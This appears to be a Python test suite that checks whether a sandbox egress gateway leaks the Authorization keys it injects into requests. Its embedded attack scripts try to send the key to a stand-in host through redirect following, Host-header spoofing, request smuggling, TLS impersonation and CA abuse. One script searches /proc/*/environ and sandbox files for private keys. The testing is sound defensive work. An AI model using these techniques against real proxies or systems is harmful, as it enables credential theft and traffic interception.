"""Attacks on keys that the gateway adds to encrypted requests, and on the authority that a sandbox alone trusts."""

from __future__ import annotations

from contextlib import asynccontextmanager
from typing import TYPE_CHECKING, Any, Literal

from crabpot.proof.verify.bait import VARIABLE
from crabpot.proof.verify.claims import Group, NotCarriedOut, Outcome
from crabpot.proof.verify.hearing import hearing
from crabpot.settings import Inject, Network, ValueFrom
from crabpot.spec.network import AUTHORITY, PROXY_PORT

if TYPE_CHECKING:
    from collections.abc import AsyncIterator

    from crabpot.proof.verify.target import Target
    from crabpot.proof.verify.world import World

claim = Group("network")

_UPGRADED, _TERMINATED, _OTHER = "upgraded.example", "terminated.example", "other.example"
_ENDED = b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nConnection: close\r\n\r\nheard"
_UNPROVED = "was not given anything"

# What every program below speaks with: requests to the proxy, and TLS in a tunnel that it makes.
_SPEAKS = """
import socket, ssl
def asks(line, host):
    return b"%s HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n" % (line, host)
def ended(one):
    answer = b""
    while data := one.recv(4096):
        answer += data
    return answer
def plain(data):
    with socket.create_connection(("127.0.0.1", given["proxy"]), 20) as one:
        one.sendall(data)
        return ended(one)
def tunnel(place):
    one = socket.create_connection(("127.0.0.1", given["proxy"]), 20)
    one.sendall(b"CONNECT %s HTTP/1.1\\r\\n\\r\\n" % place)
    answer = b""
    while not answer.endswith(b"\\r\\n\\r\\n") and (data := one.recv(1)):
        answer += data
    if b" 200 " not in answer.partition(b"\\r\\n")[0]:
        raise OSError(ended(one).decode().strip() or "not connected")
    return one
def secured(place, name, trust):
    context = ssl.create_default_context(cafile=trust) if trust else ssl._create_unverified_context()
    try:
        return context.wrap_socket(tunnel(place), server_hostname=name)
    except ssl.SSLError as error:
        raise OSError("TLS: %s" % error.reason)
def ends(place, data, trust=None, name=None):
    with secured(place, name or place.decode().partition(":")[0], trust) as one:
        one.sendall(data)
        return ended(one)
def unread(place, data):
    with tunnel(place) as one:
        one.sendall(data)
        return ended(one)
def leads(answer):
    lines = dict(line.split(b": ", 1) for line in answer.split(b"\\r\\n") if b": " in line)
    if b"Location" not in lines:
        raise SystemExit("no redirect: %r" % answer)
    plain(asks(b"GET " + lines[b"Location"], given["elsewhere"].encode()))
other = given["other"].encode()
"""

_ELSEWHERE = """
up, end, port = given["upgraded"].encode(), given["terminated"].encode(), given["port"].encode()
attempt("upgrade: follow its host's redirect", lambda: leads(plain(asks(b"GET http://" + up + b"/", up))))
for what, data in {
    "name another host to its own": asks(b"GET http://" + up + b"/", other),
    "name its host to another": asks(b"GET http://" + other + b"/", up),
    "ask another port of its host": asks(b"GET http://" + port + b"/", port),
    "ask another host": asks(b"GET http://" + other + b"/", other),
    "its host as a user's name": asks(b"GET http://" + up + b"@" + other + b"/", other),
    "a second request behind the first": asks(b"GET http://" + up + b"/", up) + asks(b"GET /", other),
}.items():
    attempt(what, lambda: plain(data) and None)
attempt("another host in its tunnel", lambda: unread(up, asks(b"GET /", other)) and None)
attempt("a whole address in its tunnel", lambda: unread(up, asks(b"GET http://" + other + b"/", other)) and None)
attempt("terminate: follow its host's redirect", lambda: leads(ends(end, asks(b"GET /", end), given["authority"])))
for what, data in {
    "name another host to its own": asks(b"GET /", other),
    "a whole address": asks(b"GET http://" + other + b"/", other),
    "a second request behind the first": asks(b"GET /", end) + asks(b"GET /", other),
}.items():
    attempt(what, lambda: ends(end, data) and None)
attempt("ask another host", lambda: ends(other, asks(b"GET /", other)) and None)
attempt("name its host to another", lambda: ends(other, asks(b"GET /", end), name="terminated.example") and None)
attempt("ask another port of its host", lambda: ends(port, asks(b"GET /", port)) and None)
attempt("plain text where TLS ends", lambda: unread(end, asks(b"GET /", end)) and None)
"""

_FALSE = """
def asked(tls, place):
    if tls == "upgrade":
        answer = plain(asks(b"GET http://" + place + b"/", place))
    else:
        answer = ends(place, asks(b"GET /", place))
    if b" 200 " not in answer.partition(b"\\r\\n")[0]:
        raise OSError(answer.partition(b"\\r\\n\\r\\n")[2].decode().strip())
    return "answered"
for tls, place, what in given["false"]:
    attempt("%s: %s" % (tls, what), asked, tls, place.encode())
"""

_VOUCHED = """
import glob
def vouched(place, name):
    with secured(place, name, None) as one:
        shown = one.getpeercert(True)
    if given["issuer"].encode() in shown and name.encode() in shown:
        return "a certificate for %s by the sandbox's own authority" % name
def found():
    for path in [*glob.glob("/crabpot/**", recursive=True), *glob.glob("/proc/[0-9]*/environ")]:
        try:
            if os.path.isfile(path) and b"PRIVATE KEY" in read(path, 1 << 22):
                return path
        except OSError:
            pass
end = given["terminated"].encode()
if not vouched(end, "terminated.example") or not ends(end, asks(b"GET /", end), given["authority"]):
    raise SystemExit("its own host was not answered for")
attempt("trust what the sandbox before was shown", ends, end, asks(b"GET /", end), "/tmp/before.pem")
attempt("another host in a tunnel of its own", vouched, other, "other.example")
attempt("another host in its host's tunnel", vouched, end, "other.example")
attempt("a host that is nowhere", vouched, end, "nowhere.example")
attempt("another port of its host", vouched, given["port"].encode(), "terminated.example")
attempt("its private key", found)
for path in (given["authority"], os.environ["SSL_CERT_FILE"]):
    attempt("change " + path, opened, path, os.O_WRONLY)
"""


def _keyed(place: str, tls: Literal["upgrade", "terminate"]) -> Inject:
    return Inject(host=place, header="Authorization", value_from=ValueFrom(env=VARIABLE), tls=tls)


def _network(places: tuple[str, ...], *rules: Inject) -> Network:
    """List places by name, and where each name leads."""
    ports = dict.fromkeys(place.partition(":")[2] for place in places)
    return Network(name="allow", allow=(*places, *(f"127.0.0.1:{port}" for port in ports)), inject=rules)


@asynccontextmanager
async def _two_keyed(target: Target, world: World, given: list[bytes], leaked: list[bytes]) -> AsyncIterator[Target]:
    """Yield a session with a key for two hosts, one for each way, that both lead elsewhere; nothing is open yet."""
    async with (
        hearing(leaked, _ENDED, world.shows(_OTHER)) as other,
        hearing(leaked, _ENDED) as bare,
    ):
        where = f"http://{_OTHER}:{bare}/".encode()
        redirect = b"HTTP/1.1 302 Found\r\nLocation: %s\r\nContent-Length: 0\r\n\r\n" % where
        async with (
            hearing(given, redirect, world.shows(_UPGRADED)) as up,
            hearing(given, redirect, world.shows(_TERMINATED)) as end,
        ):
            keyed = (_keyed(f"{_UPGRADED}:{up}", "upgrade"), _keyed(f"{_TERMINATED}:{end}", "terminate"))
            more = (f"{_OTHER}:{other}", f"{_OTHER}:{bare}", f"{_UPGRADED}:{bare}", f"{_TERMINATED}:{bare}")
            session = target.listing(_network((*(rule.host for rule in keyed), *more), *keyed))
            try:
                yield session
            finally:
                await session.stop()


def _known(session: Target) -> dict[str, Any]:
    """Return what a program inside knows: the hosts with a key, another, and another port of theirs."""
    up, end, other, bare, port, _ = session.agent.sandbox.network.allow[:6]
    return {
        "upgraded": up,
        "terminated": end,
        "other": other,
        "elsewhere": bare,
        "port": port,
        "proxy": PROXY_PORT,
        "authority": AUTHORITY,
    }


@claim.about("network", threats=("environment",))
async def cannot_have_a_key_sent_over_tls_anywhere_but_to_its_host(target: Target) -> Outcome:
    """The gateway speaks TLS to a host with a key: a redirect, a Host header or a port would take it elsewhere."""
    given: list[bytes] = []
    leaked: list[bytes] = []
    world = target.world(_UPGRADED, _TERMINATED, _OTHER)
    async with _two_keyed(target, world, given, leaked) as session:
        await world.opens(session)
        known = _known(session)
        outcome = await session.attack(_SPEAKS + _ELSEWHERE, **known)
    key = target.bait.secret.encode()
    for place in (known["upgraded"], known["terminated"]):
        if not any(key in said and f"Host: {place}\r\n".encode() in said for said in given):
            raise NotCarriedOut(f"no request to {place} got its key, so nothing could take it elsewhere")
    arrived = sum(key in said for said in leaked)
    # Many hosts share an address: a key for one must not come under another's name.
    misnamed = sum(key in said and f"Host: {known['other']}".encode() in said for said in given)
    told = "the key went to its host alone"
    if arrived or misnamed:
        told = f"the key ARRIVED elsewhere in {arrived}, and under another name in {misnamed}"
    held = outcome.held and not arrived and not misnamed
    return Outcome(held=held, tried=outcome.tried, came_back=f"{outcome.came_back}; {told}")


@claim.about("network", threats=("environment",))
async def cannot_have_a_key_given_to_a_server_that_is_not_its_host(target: Target) -> Outcome:
    """Others decide where a name leads: whoever stands there would get its key, were it not to prove its name."""
    given: list[bytes] = []
    world, unknown = target.world(_UPGRADED, _TERMINATED, _OTHER), target.world(_UPGRADED, _TERMINATED)
    async with (
        hearing(given, _ENDED, world.shows(_OTHER)) as another,
        hearing(given, _ENDED, unknown.shows(_UPGRADED)) as up,
        hearing(given, _ENDED, unknown.shows(_TERMINATED)) as end,
        hearing(given, _ENDED) as bare,
    ):
        tried = {
            "another host's certificate": (another, another),
            "an unknown authority's certificate": (up, end),
            "no TLS at all": (bare, bare),
        }
        rules = [_keyed(f"{_UPGRADED}:{port}", "upgrade") for port, _ in tried.values()]
        rules += [_keyed(f"{_TERMINATED}:{port}", "terminate") for _, port in tried.values()]
        false = [(rule.tls, rule.host, what) for rule, what in zip(rules, (*tried, *tried), strict=True)]
        session = target.listing(_network(tuple(rule.host for rule in rules), *rules))
        try:
            await world.opens(session)
            more: dict[str, Any] = {"false": false, "proxy": PROXY_PORT, "other": ""}
            outcome = await session.attack(_SPEAKS + _FALSE, **more)
        finally:
            await session.stop()
    if outcome.held and outcome.came_back.count(_UNPROVED) != len(false):
        raise NotCarriedOut(f"not all of them were asked: {outcome.came_back}")
    leaked = sum(target.bait.secret.encode() in said for said in given)
    told = f"the key was GIVEN AWAY {leaked} times" if leaked else "none of them got the key"
    return Outcome(held=outcome.held and not leaked, tried=outcome.tried, came_back=f"{told}: {outcome.came_back}")


@claim.about("network", threats=("environment",))
async def cannot_have_its_own_authority_vouch_for_another_host(target: Target) -> Outcome:
    """A sandbox trusts an authority of its own: whoever has it sign for another host, or has its key, reads all."""
    from crabpot.egress.authority import NAME  # noqa: PLC0415  slow to import

    world = target.world(_UPGRADED, _TERMINATED, _OTHER)
    async with _two_keyed(target, world, [], []) as session:
        await world.opens(session)
        before = await session.must_run(f"cat {AUTHORITY}")
        await session.stop()
        await world.opens(session)
        await session.must_run("cat > /tmp/before.pem", stdin=before)
        known = {**_known(session), "port": f"{_TERMINATED}:{session.agent.sandbox.network.allow[5].partition(':')[2]}"}
        return await session.attack(_SPEAKS + _VOUCHED, **known, issuer=NAME)
